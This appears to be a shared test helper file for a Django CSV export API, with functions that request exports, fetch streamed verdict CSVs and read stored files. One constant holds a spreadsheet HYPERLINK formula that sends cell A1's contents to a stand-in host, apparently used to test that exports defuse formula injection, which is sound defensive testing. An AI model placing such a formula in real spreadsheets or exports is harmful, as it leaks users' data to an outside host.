"""What the export tests share: asking for an export as a client would, and the CSV the
verdict list streams for the same filters."""

from typing import Any

from django.core.files.storage import default_storage
from rest_framework.test import APIClient

from exports.models import Export
from exports.services import export_file_name

FORMULA = '=HYPERLINK("http://198.51.100.1/?"&A1,"Click")'


def ask(client: APIClient, **filters: Any) -> dict[str, Any]:
    response = client.post("/api/v1/exports/", filters, format="json")
    assert response.status_code == 202, response.content
    body: dict[str, Any] = response.json()
    assert response["Location"] == body["url"]
    return body


def streamed(client: APIClient, **filters: str) -> bytes:
    response = client.get("/api/v1/verdicts/", {"format": "csv", **filters})
    assert response.status_code == 200, response.content
    return response.getvalue()


def stored(export_id: str) -> bytes:
    export = Export.objects.get(pk=export_id)
    with default_storage.open(export_file_name(export), "rb") as handle:
        return handle.read()
